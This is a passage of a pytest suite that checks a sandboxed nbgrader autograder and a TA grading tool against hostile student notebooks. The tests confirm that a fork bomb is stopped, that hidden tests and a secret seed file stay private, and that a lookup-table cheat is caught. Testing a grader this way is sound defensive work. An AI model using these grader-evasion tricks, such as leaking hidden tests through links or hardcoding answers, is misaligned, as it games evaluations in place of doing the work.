    copy keeps its mode (0600, the grader's), which the kernel's user cannot read."""
    for student in graded.expected:
        assert SEED not in cell_outputs(graded.course, student), student


@confined
def test_course_files_behind_a_link_stay_private(graded):
    """Does a link to the source notebook, handed in beside the notebook, keep its hidden tests from the feedback?
    nbgrader copies the link's target into the notebook's folder; the kernel does not see that folder."""
    assert "BEGIN HIDDEN TESTS" not in cell_outputs(graded.course, "attack-17-links")


@confined
def test_fork_bomb_stopped_by_process_limit(graded):
    """Did RLIMIT_NPROC stop the notebook kernel's fork bomb near 64 processes, far short of 2000?"""
    found = re.search(r"HOSTILE fork bomb: (\d+) children", cell_outputs(graded.course, "attack-12-limits"))
    assert found, "the kernel never reported its fork bomb"
    assert int(found.group(1)) <= 64


@confined
def test_hidden_seed_file_kept(graded):
    """Is the course's seed file still the instructor's, readable by its owner only?"""
    path = graded.course / "hidden_seed.txt"
    assert path.read_text().strip() == SEED
    assert path.stat().st_mode & 0o777 == 0o600


# ---- the TA tool on the same class ------------------------------------------------------------------------------

@dataclass
class TARun:
    results: dict[str, dict[str, dict]]  # student -> task -> the TA tool's result dict
    seeded: bool  # whether it read the course's secret seed (--seed-file)
    after: dict[str, str]


@pytest.fixture(scope="module")
def ta_run(graded, tmp_path_factory) -> TARun:
    """The TA tool on the same submitted/ folder, after autograde."""
    out = tmp_path_factory.mktemp("ta") / "report"
    env = dict(os.environ, PYTHONPATH=str(graded.lab))
    help_text = subprocess.run([sys.executable, "-m", "graders.compare", "--help"], cwd=graded.lab, env=env,
                               capture_output=True, text=True, timeout=120).stdout
    seed = ["--seed-file", str(graded.course / "hidden_seed.txt")] if "--seed-file" in help_text else []
    started = time.time()
    start = time.perf_counter()
    command = [sys.executable, "-m", "graders.compare", str(graded.course / "submitted"), "--assignment", ASSIGNMENT,
               "--out", str(out), "--jobs", "2", "--no-progress", *seed]
    proc = subprocess.run(command, cwd=graded.lab, env=env, capture_output=True, text=True, timeout=900)
    leftovers = sandbox_processes(started)
    print(f"TA tool: {time.perf_counter() - start:.0f} s")
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    assert not leftovers, leftovers
    runs = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines() if line.strip()]
    return TARun({run["student"]: run["results"] for run in runs}, bool(seed), snapshot(graded.lab))


@confined
def test_ta_tool_agrees_on_honest_and_victims(ta_run, graded):
    """Does the TA tool pass every task of the honest student and the victims, fail all of the blank's, and change
    nothing?"""
    for student in ("honest", *VICTIMS):
        assert all(r["passed"] for r in ta_run.results[student].values()), (student, ta_run.results[student])
    assert not any(r["passed"] for r in ta_run.results["blank"].values())
    changed = sorted(k for k in graded.after.keys() | ta_run.after.keys() if graded.after.get(k) != ta_run.after.get(k))
    assert not changed, f"changed during the TA tool's run: {changed}"


@confined
@pytest.mark.parametrize("student", [a.student for a in ATTACKS])
def test_ta_tool_fails_the_attacked_task(ta_run, student):
    """Does the TA tool fail each attacker's attacked task (every task, where the attack kills its loading)?"""
    attack = BY_STUDENT[student]
    if attack.number == "15-lookup" and not ta_run.seeded:
        pytest.xfail("the TA tool takes no --seed-file yet: its hidden cases use the public seed, which a lookup "
                     "table of answers computed at home passes")
    results = ta_run.results[student]
    assert not results[attack.task]["passed"], (student, results[attack.task]["message"])
    for task, result in results.items():
        if task != attack.task:
            assert result["passed"] != attack.loses_all, (student, task, result["message"])


# ---- without bubblewrap ------------------------------------------------------------------------------------------

def test_unisolated_grading_warns_and_still_grades(template, tmp_path_factory):
    """Without bubblewrap, does autograde say loudly that grading is not isolated, and still grade 25/25?"""
    _, release, solutions = template
    lab = copy_lab(template, tmp_path_factory.mktemp("unisolated") / "lab")
    course = lab / "assignments"
    write_submission(course, "honest", release, solutions)
    proc = run_nbgrader("autograde", ASSIGNMENT, "--create", cwd=course,
                        env={"PYTHONPATH": str(lab), "DDPM_LAB_BWRAP": "/nonexistent"})
    assert "GRADING IS NOT ISOLATED" in proc.stdout + proc.stderr
    assert total(course, "honest") == TOTAL
